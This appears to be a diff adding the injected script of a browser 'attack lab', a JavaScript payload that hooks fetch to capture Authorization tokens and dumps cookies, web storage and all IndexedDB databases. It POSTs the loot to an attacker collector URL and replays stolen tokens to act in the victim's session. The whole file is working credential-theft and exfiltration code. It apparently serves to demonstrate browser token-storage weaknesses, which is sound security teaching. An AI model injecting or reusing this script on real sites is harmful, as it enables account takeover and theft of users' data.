@@ -1,0 +1,68 @@
+// The injected script of the attack lab. It takes all that a script in the page can take, knows nothing of the
+// app, and leaves what it has done at `window.lab`. README.md of the example describes these hooks.
+
+(() => {
+  const loot = { cookies: '', localStorage: {}, sessionStorage: {}, indexedDB: {}, headers: [], sent: null }
+  const changed = () => window.dispatchEvent(new Event('lab'))
+
+  /** Header theft: every token that passes through `fetch`. */
+  const original = window.fetch
+  window.fetch = function (input, init) {
+    const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined))
+    const authorization = headers.get('Authorization')
+    if (authorization && !loot.headers.includes(authorization)) {
+      loot.headers.push(authorization)
+      changed()
+    }
+    return original.call(window, input, init)
+  }
+
+  const done = (request) => new Promise((resolve, reject) => {
+    request.onsuccess = () => resolve(request.result)
+    request.onerror = () => reject(request.error)
+  })
+
+  /** Storage theft: all databases, web storage and readable cookies. */
+  async function steal() {
+    loot.cookies = document.cookie
+    loot.localStorage = { ...localStorage }
+    loot.sessionStorage = { ...sessionStorage }
+    for (const { name } of await indexedDB.databases()) {
+      const database = await done(indexedDB.open(name))
+      for (const store of database.objectStoreNames) {
+        loot.indexedDB[`${name}/${store}`] = await done(database.transaction(store).objectStore(store).getAll())
+      }
+      database.close()
+    }
+    changed()
+    return loot
+  }
+
+  /** Carries the loot to a host of the attacker's. Resolves with whether it has left. */
+  async function send(collector = sessionStorage.getItem('lab.collector')) {
+    if (!collector) return false
+    loot.sent = await original(collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(await steal()) })
+      .then(() => true, () => false)
+    changed()
+    return loot.sent
+  }
+
+  /** The body half that was seen last. */
+  async function bodyHalf() {
+    await steal()
+    const [record] = Object.values(loot.indexedDB).flat().filter((value) => value?.access)
+    return record?.access ?? loot.headers.at(-1)?.replace('Bearer ', '')
+  }
+
+  /** The one that nothing stops: a call out of the live page, to which the browser adds the cookie half. */
+  async function ride(url = '/api/auth/me', options = {}) {
+    const token = await bodyHalf()
+    const answer = await original(url, {
+      ...options, credentials: 'include', headers: { ...options.headers, ...(token && { Authorization: `Bearer ${token}` }) },
+    })
+    return { status: answer.status, body: await answer.json().catch(() => null) }
+  }
+
+  window.lab = { loot, steal, send, ride }
+  changed()
+})()
